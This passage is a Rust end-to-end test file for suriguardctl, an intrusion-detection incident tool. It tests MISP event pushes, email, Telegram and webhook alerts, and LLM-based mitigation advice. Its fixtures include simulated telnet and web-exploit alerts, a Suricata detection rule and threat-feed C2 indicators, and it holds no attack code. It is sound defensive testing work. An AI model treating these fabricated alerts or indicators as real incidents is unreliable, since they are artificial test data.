//! suriguardctl's incident loop against real peers: the MISP stand-in validating every
//! request against MISP's openapi.yaml, a real SMTP server (aiosmtpd, plain, STARTTLS +
//! AUTH, implicit TLS), Telegram / webhook / LLM stubs speaking their documented
//! formats, and alerts from real Suricata on real captures.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use suriguard_e2e::servers::{PyServer, MISP_KEY};
use suriguard_e2e::{
    append, ctl, infoblox_origin, json, rulesync, run_suricata, scenarios, shared_data, sv_pcap,
    RunOptions, Suricata,
};

const HOME_DEVICE: &str = "192.168.1.20";
const ATTACKER: &str = "203.0.113.50";

/// An alert record in the shape Suricata 7 writes.
#[allow(clippy::too_many_arguments)]
fn alert(
    ts: &str,
    flow: u64,
    src: &str,
    dst: &str,
    dport: u16,
    sid: u64,
    sig: &str,
    sev: u8,
    extra: &str,
) -> String {
    format!(
        r#"{{"timestamp":"{ts}","flow_id":{flow},"in_iface":"eth0","event_type":"alert","src_ip":"{src}","src_port":40000,"dest_ip":"{dst}","dest_port":{dport},"proto":"TCP","pkt_src":"wire/pcap","alert":{{"action":"allowed","gid":1,"signature_id":{sid},"rev":1,"signature":"{sig}","category":"","severity":{sev}}}{extra}}}"#
    ) + "\n"
}

/// The attacker's telnet alert against the home device (severity 1, sid 9100001).
fn telnet_alert(ts: &str, flow: u64, dport: u16) -> String {
    alert(
        ts,
        flow,
        ATTACKER,
        HOME_DEVICE,
        dport,
        9100001,
        "SG TEST telnet login attempt",
        1,
        "",
    )
}

fn base_config(dir: &Path, extra: &str) -> PathBuf {
    let cfg = dir.join("suriguard.toml");
    std::fs::write(
        &cfg,
        format!(
            "state-dir = \"{d}\"\n[network]\nhome-networks = [\"192.168.1.0/24\"]\n[enforce]\nbackend = \"none\"\n[alerts]\neve = \"{d}/eve.json\"\n{extra}",
            d = dir.display()
        ),
    )
    .unwrap();
    cfg
}

/// The MISP stand-in, rulesync's index of the Infoblox feed (where sightings find their
/// attribute UUIDs), and a configuration pushing to them with `extra` in `[misp]`.
fn with_misp(dir: &Path, extra: &str) -> (PyServer, PathBuf) {
    let misp = PyServer::misp(dir);
    let index = rulesync_index(dir);
    let cfg = base_config(
        dir,
        &format!(
            "[misp]\nurl = \"{}\"\nkey = {{ env = \"SG_TEST_MISP_KEY\" }}\ntimeout = 1.5\nintel-index = \"{}\"\n{extra}",
            misp.url(),
            index.display()
        ),
    );
    (misp, cfg)
}

/// The attribute UUIDs the MISP stand-in recorded sightings for.
fn sightings(state: &Value) -> Vec<&str> {
    state["sightings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["attribute_uuid"].as_str().unwrap())
        .collect()
}

fn incidents(cfg: &Path) -> Vec<Value> {
    let r = ctl(cfg, &["alerts", "list", "-o", "json"], &[]);
    r.assert_success();
    json(&r).as_array().unwrap().clone()
}

/// Severity mapping, dedupe into an existing event, sightings on the attribute behind a
/// rulesync alert, and MISP failing (500, timeout, 403) without losing an incident.
#[test]
fn misp_events_severity_dedupe_sightings_and_failures() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let (misp, cfg) = with_misp(dir, "tags = [\"tlp:amber\"]\n");
    let (_, c2_attr) = infoblox_origin("45.63.119.177");
    let env = [("SG_TEST_MISP_KEY", MISP_KEY)];
    let eve = dir.join("eve.json");
    let mut text = String::new();
    text += &telnet_alert("2024-03-01T10:00:00.000000+0000", 1, 23);
    text += &telnet_alert("2024-03-01T10:10:00.000000+0000", 2, 2323);
    text += &alert(
        "2024-03-01T10:20:00.000000+0000",
        3,
        "198.51.100.9",
        HOME_DEVICE,
        80,
        9100002,
        "SG TEST web exploit",
        2,
        r#","app_proto":"http","http":{"hostname":"bad.example","url":"/cgi-bin/x?token=SECRET","http_user_agent":"Mozi/1.0"}"#,
    );
    text += &alert(
        "2024-03-01T10:30:00.000000+0000",
        4,
        "198.51.100.10",
        HOME_DEVICE,
        80,
        9100003,
        "SG TEST informational",
        3,
        "",
    );
    text += &alert(
        "2024-03-01T10:40:00.000000+0000", 5, HOME_DEVICE, "45.63.119.177", 443, 9700002, "suriguard intel: ip.dst", 2,
        "",
    )
    .replace(
        r#""severity":2}"#,
        r#""severity":2,"metadata":{"suriguard_set":["suriguard-ip-dst-v4"],"suriguard_source":["infoblox"]}}"#,
    );
    text += "{\"event_type\":\"alert\", broken\n";
    std::fs::write(&eve, &text).unwrap();
    // An enforced block decision from the plugin's journal.
    std::fs::write(
        dir.join("decisions.jsonl"),
        r#"{"id":"d0c1510n00000001","time":"2024-03-01T10:50:00.000000Z","time_us":1709290200000000,"target":"203.0.113.77","action":"block","reason":"syn-flood","direction":"inbound","summary":"203.0.113.77 sent 900 SYNs in 3 s","evidence":{"counter":"syn","observed":900,"threshold":200,"window_secs":3.0,"example_flow_ids":[9],"detail":"port 80"},"ttl":3600,"confidence":0.97,"dry_run":false}"#.to_string() + "\n",
    )
    .unwrap();

    // MISP down in three ways: every incident stays queued, none is lost.
    for (mode, needle) in [
        ("500", "HTTP 500"),
        ("slow", "timed out"),
        ("403", "HTTP 403"),
    ] {
        misp.set_mode(mode);
        let r = ctl(&cfg, &["events", "push", "--ingest"], &env);
        assert!(!r.success(), "{mode}: {r}");
        assert!(
            r.stderr().contains(needle) && r.stderr().contains("stay queued"),
            "{mode}: {r}"
        );
        assert!(!r.stderr().contains(MISP_KEY), "the key leaked: {r}");
        let inc = incidents(&cfg);
        assert_eq!(inc.len(), 6, "5 alerts and 1 decision: {inc:?}");
        let queued = inc
            .iter()
            .filter(|i| i["misp_state"] == "retry" || i["misp_state"] == "pending")
            .count();
        assert_eq!(queued, 5, "{mode}: {inc:?}");
        let local: Vec<_> = inc.iter().filter(|i| i["misp_state"] == "local").collect();
        assert_eq!(local.len(), 1, "severity 3 is not pushed");
        assert_eq!(local[0]["severity"], 3);
        // The run stopped at the first failure.
        let reqs = misp.take_requests();
        assert_eq!(reqs.len(), 1, "{mode}: {reqs:?}");
    }
    assert!(misp.get_json("/__state")["events"]
        .as_array()
        .unwrap()
        .is_empty());

    misp.set_mode("ok");
    let r = ctl(&cfg, &["events", "push", "-o", "json"], &env);
    r.assert_success();
    let rep = json(&r);
    assert_eq!(rep["pushed"], 5, "{rep}");
    assert_eq!(
        rep["events_created"], 4,
        "two telnet alerts share one event: {rep}"
    );
    assert_eq!(rep["sightings"], 1, "{rep}");
    let reqs = misp.take_requests();
    for q in &reqs {
        assert_eq!(
            q["errors"],
            serde_json::json!([]),
            "invalid against openapi.yaml: {q}"
        );
        assert_eq!(q["auth_ok"], true);
    }
    let adds = reqs.iter().filter(|q| q["path"] == "/events/add").count();
    assert_eq!(adds, 4);

    let state = misp.get_json("/__state");
    let events = state["events"].as_array().unwrap();
    let by_info = |needle: &str| -> &Value {
        events
            .iter()
            .find(|e| e["info"].as_str().unwrap().contains(needle))
            .unwrap_or_else(|| panic!("no event with {needle}: {events:?}"))
    };
    let telnet = by_info("SG TEST telnet");
    assert_eq!(
        telnet["threat_level_id"], "1",
        "Suricata severity 1 is MISP High"
    );
    assert_eq!(telnet["distribution"], "0");
    assert_eq!(telnet["published"], true);
    let values = |e: &Value| -> Vec<(String, String)> {
        e["Attribute"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| {
                (
                    a["type"].as_str().unwrap().to_string(),
                    a["value"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    let tv = values(telnet);
    for want in [
        ("ip-src", ATTACKER),
        ("port", "23"),
        ("port", "2323"),
        ("text", "TCP"),
    ] {
        assert!(
            tv.contains(&(want.0.into(), want.1.into())),
            "{want:?} missing: {tv:?}"
        );
    }
    assert!(
        tv.iter().any(|(t, v)| t == "text" && v.contains("9100001")),
        "{tv:?}"
    );
    assert!(
        !tv.iter().any(|(_, v)| v == HOME_DEVICE),
        "home address shared: {tv:?}"
    );
    let tags: Vec<&str> = telnet["Tag"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(
        tags.contains(&"tlp:amber") && tags.contains(&"suriguard:signature-id=\"9100001\""),
        "{tags:?}"
    );

    let web = by_info("SG TEST web exploit");
    assert_eq!(web["threat_level_id"], "2");
    let wv = values(web);
    for want in [
        ("hostname", "bad.example"),
        ("url", "http://bad.example/cgi-bin/x?token=SECRET"),
        ("user-agent", "Mozi/1.0"),
        ("ip-src", "198.51.100.9"),
    ] {
        assert!(
            wv.contains(&(want.0.into(), want.1.into())),
            "{want:?} missing: {wv:?}"
        );
    }
    let block = by_info("syn-flood");
    assert_eq!(
        block["threat_level_id"], "1",
        "an enforced block counts as severity 1"
    );
    assert!(values(block).contains(&("ip-src".into(), "203.0.113.77".into())));
    assert!(!events
        .iter()
        .any(|e| e["info"].as_str().unwrap().contains("informational")));
    // The sighting went to the Infoblox attribute the alert's indicator came from.
    assert_eq!(sightings(&state), [c2_attr.as_str()]);
    let intel = by_info("suriguard intel");
    assert!(values(intel).contains(&("ip-dst".into(), "45.63.119.177".into())));

    // The same source and signature 20 minutes later: the existing event is updated.
    append(
        &eve,
        &telnet_alert("2024-03-01T10:20:00.000000+0000", 7, 8023),
    );
    let r = ctl(&cfg, &["events", "push", "--ingest", "-o", "json"], &env);
    r.assert_success();
    let rep = json(&r);
    assert_eq!(
        (
            rep["pushed"].as_u64(),
            rep["events_created"].as_u64(),
            rep["events_updated"].as_u64()
        ),
        (Some(1), Some(0), Some(1)),
        "{rep}"
    );
    let reqs = misp.take_requests();
    assert!(!reqs.iter().any(|q| q["path"] == "/events/add"), "{reqs:?}");
    let id = telnet["id"].as_str().unwrap();
    assert!(
        reqs.iter()
            .any(|q| q["path"] == format!("/attributes/add/{id}") && q["body"]["value"] == "8023"),
        "{reqs:?}"
    );
    let state = misp.get_json("/__state");
    assert_eq!(state["events"].as_array().unwrap().len(), 4);

    // Nothing left queued; events list knows every event and how many incidents each holds.
    let r = ctl(&cfg, &["events", "list", "-o", "json"], &[]);
    r.assert_success();
    let listed = json(&r);
    let listed = listed.as_array().unwrap();
    assert_eq!(listed.len(), 4);
    let t = listed.iter().find(|e| e["misp_id"] == id).unwrap();
    assert_eq!(t["incidents"], 3);
    assert!(incidents(&cfg)
        .iter()
        .all(|i| i["misp_state"] == "pushed" || i["misp_state"] == "local"));
    // The table form too.
    let r = ctl(&cfg, &["alerts", "list", "--severity", "1"], &[]);
    r.assert_success();
    assert!(
        r.stdout().contains("SG TEST telnet") && !r.stdout().contains("web exploit"),
        "{r}"
    );
}

/// rulesync's index.json for the Infoblox feed (load mode, no Suricata needed).
fn rulesync_index(dir: &Path) -> PathBuf {
    let out = dir.join("intel");
    let cfg = dir.join("rulesync.toml");
    std::fs::write(
        &cfg,
        format!(
            "output-dir = \"{out}\"\nstate-dir = \"{state}\"\ndataset-mode = \"load\"\n[suricata]\nvalidate = false\n\
             [[source]]\nname = \"infoblox\"\ntype = \"misp-feed\"\npath = \"{feed}\"\n",
            out = out.display(),
            state = dir.join("rulesync-state").display(),
            feed = shared_data().join("misp/feeds/infoblox").display()
        ),
    )
    .unwrap();
    rulesync(&cfg, &["run"], &[]).assert_success();
    let index = out.join("index.json");
    assert!(index.exists());
    index
}

/// A test CA and a server certificate for 127.0.0.1 it signed (openssl), as
/// (CA certificate, server certificate, server key).
fn test_pki(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let p = |n: &str| dir.join(n);
    std::fs::write(
        p("ext.cnf"),
        "subjectAltName=IP:127.0.0.1,DNS:localhost\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    let steps: [Vec<String>; 3] = [
        "req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=suriguard-test-ca -keyout ca.key -out ca.pem",
        "req -newkey rsa:2048 -nodes -subj /CN=127.0.0.1 -keyout key.pem -out leaf.csr",
        "x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 1 -out cert.pem -extfile ext.cnf",
    ]
    .map(|s| s.split(' ').map(str::to_string).collect());
    for args in steps {
        let out = Command::new("openssl")
            .args(&args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "openssl {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    (p("ca.pem"), p("cert.pem"), p("key.pem"))
}

/// The mails a test SMTP server received: (envelope, parsed message), parsed by
/// Python's email package.
fn mails(maildir: &Path) -> Vec<(Value, Value)> {
    let mut names: Vec<_> = std::fs::read_dir(maildir)
        .map(|d| {
            d.flatten()
                .map(|e| e.path())
                .filter(|p| p.extension().is_some_and(|x| x == "json"))
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
        .into_iter()
        .map(|meta| {
            let eml = meta.with_extension("eml");
            let out = Command::new("/usr/bin/python3")
                .args([
                    "-c",
                    "import email,email.policy,json,sys\n\
                     m=email.message_from_binary_file(open(sys.argv[1],'rb'),policy=email.policy.default)\n\
                     print(json.dumps({'subject':str(m['subject']),'to':[str(a) for a in m['to'].addresses],'from':str(m['from']),\
                     'text':m.get_body(('plain',)).get_content(),'html':m.get_body(('html',)).get_content()}))",
                ])
                .arg(&eml)
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
            (
                serde_json::from_slice(&std::fs::read(&meta).unwrap()).unwrap(),
                serde_json::from_slice(&out.stdout).unwrap(),
            )
        })
        .collect()
}

fn wait_for_mails(maildir: &Path, n: usize) -> Vec<(Value, Value)> {
    for _ in 0..50 {
        let m = mails(maildir);
        if m.len() >= n {
            return m;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    mails(maildir)
}

fn owner_only(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
}

const TG_TOKEN: &str = "123456:TEST-token";
const SMTP_PASS: &str = "correct-horse-battery";

/// Email over STARTTLS with AUTH to two recipients, Telegram and a webhook: one message
/// per incident with the mitigation steps, nothing for a repeat inside the cooldown, a
/// digest for low severity, failures retried with backoff and recorded.
#[test]
fn notifications_email_telegram_webhook_cooldown_digest_retries() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let (ca, cert, key) = test_pki(dir);
    let maildir = dir.join("mail-starttls");
    let smtp = PyServer::smtp(
        dir,
        "smtp-starttls",
        &[
            "--maildir",
            maildir.to_str().unwrap(),
            "--starttls",
            cert.to_str().unwrap(),
            key.to_str().unwrap(),
            "--auth",
            &format!("ops:{SMTP_PASS}"),
        ],
    );
    let stub = PyServer::http_stub(dir);
    let pass_file = dir.join("smtp.pass");
    owner_only(&pass_file, SMTP_PASS);
    let cfg = base_config(
        dir,
        &format!(
            "[notify]\ncooldown = 3600\nretry-base = 1\nmax-attempts = 3\n\
             [notify.email]\nserver = \"127.0.0.1\"\nport = {port}\nsecurity = \"starttls\"\nusername = \"ops\"\npassword = {{ file = \"{pf}\" }}\n\
             from = \"suriguard <ids@home.example>\"\nto = [\"admin@home.example\", \"second@home.example\"]\nca-file = \"{cert}\"\n\
             [notify.telegram]\nbase-url = \"{stub}\"\ntoken = {{ env = \"SG_TEST_TG\" }}\nchat-id = \"-100200300\"\n\
             [notify.webhook]\nurl = \"{stub}/hook\"\n",
            port = smtp.port,
            pf = pass_file.display(),
            cert = ca.display(),
            stub = stub.url(),
        ),
    );
    let env = [("SG_TEST_TG", TG_TOKEN)];
    let eve = dir.join("eve.json");
    append(
        &eve,
        &telnet_alert("2024-03-01T10:00:00.000000+0000", 1, 23),
    );

    let r = ctl(&cfg, &["run", "-o", "json"], &env);
    r.assert_success();
    let rep = json(&r);
    assert_eq!(rep["notify"]["sent"], 3, "{rep}");
    let m = wait_for_mails(&maildir, 1);
    assert_eq!(m.len(), 1);
    let (envelope, mail) = &m[0];
    assert_eq!(envelope["tls"], true, "sent over STARTTLS");
    assert_eq!(envelope["authenticated"], true);
    assert_eq!(
        envelope["rcpt_tos"],
        serde_json::json!(["admin@home.example", "second@home.example"])
    );
    assert_eq!(
        mail["to"],
        serde_json::json!(["admin@home.example", "second@home.example"])
    );
    let subject = mail["subject"].as_str().unwrap();
    assert!(
        subject.contains("Mirai-style telnet attack") && subject.contains(ATTACKER),
        "{subject}"
    );
    let text = mail["text"].as_str().unwrap();
    assert!(text.contains("What to do"), "{text}");
    assert!(
        text.contains(&format!(
            "suriguardctl decisions add {HOME_DEVICE} --quarantine"
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!("Destination: {HOME_DEVICE} port 23")),
        "{text}"
    );
    assert!(mail["html"].as_str().unwrap().contains("<ol>"), "{mail}");
    let reqs = stub.take_requests();
    let tg = reqs
        .iter()
        .find(|q| q["path"].as_str().unwrap().ends_with("/sendMessage"))
        .expect("telegram");
    assert_eq!(tg["body"]["chat_id"], "-100200300");
    assert!(tg["body"]["text"].as_str().unwrap().contains(ATTACKER));
    let hook = reqs.iter().find(|q| q["path"] == "/hook").expect("webhook");
    assert_eq!(hook["body"]["type"], "incident");
    assert_eq!(hook["body"]["incident"]["signature_id"], 9100001);
    assert_eq!(hook["content_type"], "application/json");

    // The same target and reason again, inside the cooldown: nothing is sent.
    append(
        &eve,
        &telnet_alert("2024-03-01T10:05:00.000000+0000", 2, 23),
    );
    let r = ctl(&cfg, &["run", "-o", "json"], &env);
    r.assert_success();
    assert_eq!(json(&r)["notify"]["sent"], 0, "{r}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(
        mails(&maildir).len(),
        1,
        "a second mail inside the cooldown"
    );
    assert!(stub.take_requests().is_empty());
    let listed = json(&ctl(&cfg, &["notify", "list", "-o", "json"], &[]));
    let suppressed = listed
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["state"] == "suppressed")
        .count();
    assert_eq!(
        suppressed, 3,
        "recorded as suppressed on each channel: {listed}"
    );

    // Low severity: nothing at once, one digest when flushed.
    append(
        &eve,
        &alert(
            "2024-03-01T10:06:00.000000+0000",
            3,
            "198.51.100.21",
            HOME_DEVICE,
            8080,
            9100009,
            "SG TEST low one",
            3,
            "",
        ),
    );
    append(
        &eve,
        &alert(
            "2024-03-01T10:07:00.000000+0000",
            4,
            "198.51.100.22",
            HOME_DEVICE,
            8080,
            9100010,
            "SG TEST low two",
            3,
            "",
        ),
    );
    let r = ctl(&cfg, &["run", "-o", "json"], &env);
    r.assert_success();
    assert_eq!(json(&r)["notify"]["sent"], 0, "{r}");
    let r = ctl(
        &cfg,
        &["notify", "send", "--flush-digest", "-o", "json"],
        &env,
    );
    r.assert_success();
    assert_eq!(json(&r)["digests_built"], 3, "{r}");
    let m = wait_for_mails(&maildir, 2);
    assert_eq!(m.len(), 2);
    let digest = &m[1].1;
    assert!(
        digest["subject"].as_str().unwrap().contains("digest: 2"),
        "{digest}"
    );
    let dt = digest["text"].as_str().unwrap();
    assert!(
        dt.contains("SG TEST low one") && dt.contains("SG TEST low two"),
        "{dt}"
    );
    stub.take_requests();

    // Telegram and the webhook fail: recorded with their error, retried after the backoff.
    stub.set_mode("500");
    append(
        &eve,
        &alert(
            "2024-03-01T10:08:00.000000+0000",
            5,
            "198.51.100.30",
            HOME_DEVICE,
            22,
            9100020,
            "SG TEST ssh brute force",
            2,
            "",
        ),
    );
    let r = ctl(&cfg, &["run", "-o", "json"], &env);
    r.assert_success();
    let rep = json(&r);
    assert_eq!(
        (
            rep["notify"]["sent"].as_u64(),
            rep["notify"]["failed"].as_u64()
        ),
        (Some(1), Some(2)),
        "{rep}"
    );
    assert!(
        !r.stderr().contains(TG_TOKEN) && !r.stdout().contains(TG_TOKEN),
        "token leaked: {r}"
    );
    assert!(!r.stderr().contains(SMTP_PASS));
    let listed = json(&ctl(&cfg, &["notify", "list", "-o", "json"], &[]));
    let retry: Vec<&Value> = listed
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["state"] == "retry")
        .collect();
    assert_eq!(retry.len(), 2, "{listed}");
    assert!(
        retry
            .iter()
            .all(|r| r["attempts"] == 1 && r["last_error"].as_str().unwrap().contains("500")),
        "{retry:?}"
    );
    stub.set_mode("ok");
    // Right away: still inside the backoff, nothing is sent.
    let r = ctl(&cfg, &["notify", "send", "-o", "json"], &env);
    assert_eq!(json(&r)["waiting"], 2, "{r}");
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let r = ctl(&cfg, &["notify", "send", "-o", "json"], &env);
    assert_eq!(json(&r)["sent"], 2, "{r}");
    let listed = json(&ctl(&cfg, &["notify", "list", "-o", "json"], &[]));
    assert!(
        listed
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["state"] == "sent" || r["state"] == "suppressed"),
        "{listed}"
    );
}

/// `notify test` through plain SMTP, implicit TLS with AUTH, and a server that cannot
/// STARTTLS (refused, not sent in clear); a wrong Telegram token fails without appearing
/// anywhere in the output.
#[test]
fn notify_test_plain_implicit_tls_and_refusals() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let (ca, cert, key) = test_pki(dir);
    let plain_dir = dir.join("mail-plain");
    let plain = PyServer::smtp(
        dir,
        "smtp-plain",
        &["--maildir", plain_dir.to_str().unwrap()],
    );
    let tls_dir = dir.join("mail-tls");
    let tls = PyServer::smtp(
        dir,
        "smtp-tls",
        &[
            "--maildir",
            tls_dir.to_str().unwrap(),
            "--starttls",
            cert.to_str().unwrap(),
            key.to_str().unwrap(),
            "--implicit-tls",
            "--auth",
            &format!("ops:{SMTP_PASS}"),
        ],
    );
    let stub = PyServer::http_stub(dir);
    let email = |port: u16, security: &str, auth: bool| {
        format!(
            "[notify.email]\nserver = \"127.0.0.1\"\nport = {port}\nsecurity = \"{security}\"\nfrom = \"ids@home.example\"\nto = [\"admin@home.example\"]\nca-file = \"{}\"\n{}",
            ca.display(),
            if auth { "username = \"ops\"\npassword = { env = \"SG_TEST_SMTP_PASS\" }\n" } else { "" }
        )
    };
    let env = [
        ("SG_TEST_SMTP_PASS", SMTP_PASS),
        ("SG_TEST_TG", "999:wrong-token-value"),
    ];

    let cfg = base_config(dir, &email(plain.port, "none", false));
    let r = ctl(&cfg, &["notify", "test"], &env);
    r.assert_success();
    let m = wait_for_mails(&plain_dir, 1);
    assert_eq!(m[0].0["tls"], false);
    assert!(m[0].1["subject"].as_str().unwrap().contains("test message"));

    let cfg = base_config(dir, &email(tls.port, "tls", true));
    ctl(&cfg, &["notify", "test"], &env).assert_success();
    let m = wait_for_mails(&tls_dir, 1);
    assert_eq!(
        (m[0].0["tls"].as_bool(), m[0].0["authenticated"].as_bool()),
        (Some(true), Some(true))
    );

    // STARTTLS demanded of a server that does not offer it: refused, nothing delivered.
    let cfg = base_config(dir, &email(plain.port, "starttls", true));
    let r = ctl(&cfg, &["notify", "test"], &env);
    assert!(!r.success(), "{r}");
    assert!(r.stdout().contains("email: FAILED"), "{r}");
    assert_eq!(mails(&plain_dir).len(), 1);
    assert!(
        !(r.stdout() + &r.stderr()).contains(SMTP_PASS),
        "password in output: {r}"
    );

    let cfg = base_config(
        dir,
        &format!("[notify.telegram]\nbase-url = \"{}\"\ntoken = {{ env = \"SG_TEST_TG\" }}\nchat-id = \"42\"\n", stub.url()),
    );
    let r = ctl(&cfg, &["notify", "test", "-o", "json"], &env);
    assert!(!r.success());
    let out = json(&r);
    assert!(out[0]["error"].as_str().unwrap().contains("401"), "{out}");
    assert!(
        !(r.stdout() + &r.stderr()).contains("wrong-token-value"),
        "token in output: {r}"
    );

    // A Telegram API that does not answer in time: a clear timeout, the token still hidden.
    let cfg = base_config(
        dir,
        &format!("[notify.telegram]\nbase-url = \"{}\"\ntoken = {{ env = \"SG_TEST_TG\" }}\nchat-id = \"42\"\ntimeout = 1\n", stub.url()),
    );
    stub.set_mode("slow");
    let started = std::time::Instant::now();
    let r = ctl(
        &cfg,
        &["notify", "test", "-o", "json"],
        &[("SG_TEST_TG", TG_TOKEN)],
    );
    assert!(!r.success());
    assert!(
        started.elapsed() < std::time::Duration::from_secs(4),
        "the timeout was not applied"
    );
    let out = json(&r);
    assert!(
        out[0]["error"].as_str().unwrap().contains("timed out"),
        "{out}"
    );
    assert!(
        !(r.stdout() + &r.stderr()).contains(TG_TOKEN),
        "token in output: {r}"
    );
}

/// Mitigation through Cohere's chat API and an OpenAI-compatible endpoint, with the
/// knowledge base as the fallback for errors, timeouts, garbage and a refused key.
#[test]
fn mitigate_with_llm_providers_and_fallbacks() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let stub = PyServer::http_stub(dir);
    let eve = dir.join("eve.json");
    append(
        &eve,
        &alert(
            "2024-03-01T10:20:00.000000+0000",
            3,
            "198.51.100.9",
            HOME_DEVICE,
            80,
            9100002,
            "SG TEST web exploit",
            2,
            r#","app_proto":"http","http":{"hostname":"bad.example","url":"/cgi-bin/x?token=SECRET","http_user_agent":"Mozi/1.0"}"#,
        ),
    );
    let llm = |provider: &str, url: &str| {
        base_config(
            dir,
            &format!(
                "[mitigate]\nprovider = \"{provider}\"\nurl = \"{url}\"\nmodel = \"test-model\"\nkey = {{ env = \"SG_TEST_LLM_KEY\" }}\ntimeout = 1.5\n"
            ),
        )
    };
    let env = [("SG_TEST_LLM_KEY", "llm-test-key")];
    let cfg = llm("cohere", &stub.url());
    ctl(&cfg, &["alerts", "ingest"], &[]).assert_success();
    let id = incidents(&cfg)[0]["key"].as_str().unwrap().to_string();

    // Offline: the knowledge base, no request.
    let r = ctl(&cfg, &["mitigate", &id, "--offline", "-o", "json"], &env);
    r.assert_success();
    assert_eq!(json(&r)["advice"]["source"], "knowledge-base");
    assert!(stub.take_requests().is_empty());

    for (provider, url, path) in [
        ("cohere", stub.url(), "/v2/chat"),
        (
            "openai",
            format!("{}/v1", stub.url()),
            "/v1/chat/completions",
        ),
    ] {
        let cfg = llm(provider, &url);
        let r = ctl(&cfg, &["mitigate", &id, "-o", "json"], &env);
        r.assert_success();
        let a = &json(&r)["advice"];
        assert!(a["source"].as_str().unwrap().contains("test-model"), "{a}");
        assert_eq!(a["steps"][0], "Quarantine the device at once.", "{a}");
        assert_eq!(a["steps"].as_array().unwrap().len(), 3);
        let reqs = stub.take_requests();
        assert_eq!(reqs.len(), 1);
        assert_eq!(reqs[0]["path"], path);
        assert_eq!(reqs[0]["authorization"], "Bearer llm-test-key");
        let user = reqs[0]["body"]["messages"][1]["content"].as_str().unwrap();
        assert!(
            user.contains("http path: /cgi-bin/x\n") && user.contains("198.51.100.9"),
            "{user}"
        );
        assert!(
            !user.contains("SECRET"),
            "query string sent to the LLM: {user}"
        );
        assert!(user.len() <= 2048 + 64);
    }

    // Failures: the knowledge base answers, the reason is given, the command succeeds.
    let cfg = llm("openai", &format!("{}/v1", stub.url()));
    for (mode, env, needle) in [
        ("500", env, "HTTP 500"),
        ("slow", env, "timed out"),
        ("garbage", env, "not JSON"),
        ("ok", [("SG_TEST_LLM_KEY", "a-wrong-key")], "HTTP 401"),
    ] {
        stub.set_mode(mode);
        let r = ctl(&cfg, &["mitigate", &id, "-o", "json"], &env);
        r.assert_success();
        let a = &json(&r)["advice"];
        assert_eq!(a["source"], "knowledge-base", "{mode}: {a}");
        assert!(
            a["fallback_reason"].as_str().unwrap().contains(needle),
            "{mode}: {a}"
        );
        assert!(r.stderr().contains("falling back"), "{mode}: {r}");
        assert!(!(r.stdout() + &r.stderr()).contains("a-wrong-key"));
        assert!(a["steps"].as_array().unwrap().len() >= 2);
    }
    stub.set_mode("ok");
    // The text form names the class and numbers the steps.
    let r = ctl(&cfg, &["mitigate", &id, "--offline"], &env);
    r.assert_success();
    assert!(
        r.stdout().contains("1. ") && r.stdout().contains("knowledge-base"),
        "{r}"
    );
}

/// Real Suricata on real captures: the suricata-verify telnet session with a rule that
/// fires (priority 1), and a home device reaching an Infoblox C2 address under rulesync's
/// rules. suriguardctl stores the alerts, pushes them, and sights the Infoblox attribute.
#[test]
fn alerts_from_real_suricata_7_reach_the_store_and_misp() {
    alerts_from_real_suricata_reach_the_store_and_misp(Suricata::V7);
}

#[test]
fn alerts_from_real_suricata_8_reach_the_store_and_misp() {
    alerts_from_real_suricata_reach_the_store_and_misp(Suricata::V8);
}

fn alerts_from_real_suricata_reach_the_store_and_misp(suricata: Suricata) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let misp = PyServer::misp(dir);
    let index = rulesync_index(dir);
    let (_, c2_attr) = infoblox_origin("45.63.119.177");

    let rules = dir.join("sg-test.rules");
    std::fs::write(
        &rules,
        "alert tcp any any -> any 23 (msg:\"SG TEST telnet session to a device\"; flow:to_server,established; priority:1; sid:9100101; rev:1;)\n",
    )
    .unwrap();
    let telnet = run_suricata(
        &sv_pcap("telnet/telnet-01/telnet.pcap"),
        &dir.join("log-telnet"),
        &RunOptions {
            rules: vec![rules],
            suricata,
            ..Default::default()
        },
    );
    telnet.ran.assert_success();
    let pcap = dir.join("contacts.pcap");
    scenarios::intel_contacts(&pcap, &[("0u9rg3v.top", "45.63.119.177".parse().unwrap())]).unwrap();
    let intel = run_suricata(
        &pcap,
        &dir.join("log-intel"),
        &RunOptions {
            rules: vec![dir.join("intel/suriguard.rules")],
            suricata,
            ..Default::default()
        },
    );
    intel.ran.assert_success();

    let cfg = base_config(
        dir,
        &format!(
            "[misp]\nurl = \"{}\"\nkey = {{ env = \"SG_TEST_MISP_KEY\" }}\nintel-index = \"{}\"\n",
            misp.url(),
            index.display()
        ),
    );
    let env = [("SG_TEST_MISP_KEY", MISP_KEY)];
    let mut total = 0;
    for log in [&telnet, &intel] {
        let r = ctl(
            &cfg,
            &[
                "alerts",
                "ingest",
                "--eve",
                log.eve_json().to_str().unwrap(),
                "-o",
                "json",
            ],
            &[],
        );
        r.assert_success();
